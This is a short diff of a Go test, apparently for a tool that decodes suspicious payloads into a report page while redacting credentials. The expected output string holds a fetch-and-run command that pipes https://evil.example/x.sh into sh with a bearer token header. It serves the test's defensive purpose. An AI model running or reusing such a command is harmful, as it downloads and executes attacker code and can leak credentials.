@@ -370,7 +370,7 @@ func TestNoSinkShowsAPayloadThatHoldsACredential(t *testing.T) {
 		assert.NotEmpty(t, b.String())
 		assert.False(t, reveals(html.UnescapeString(pageTag.ReplaceAllString(b.String(), "")), token[4:]), name)
 	}
-	holds(t, page(t, r), `<dt>Encoded</dt><dd class="x">[redacted]</dd></div><div><dt>Decodes to</dt><dd class="x"><mark class="main">curl -H &#39;Authorization: Bearer [REDACTED]&#39; https://evil.example/x.sh | sh</mark>`)
+	holds(t, page(t, r), `<dt>Encoded</dt><dd class="x">[REDACTED]</dd></div><div><dt>Decodes to</dt><dd class="x"><mark class="main">curl -H &#39;Authorization: Bearer [REDACTED]&#39; https://evil.example/x.sh | sh</mark>`)
 }
 
 func crowd(t *testing.T, n int) *lint.Report {
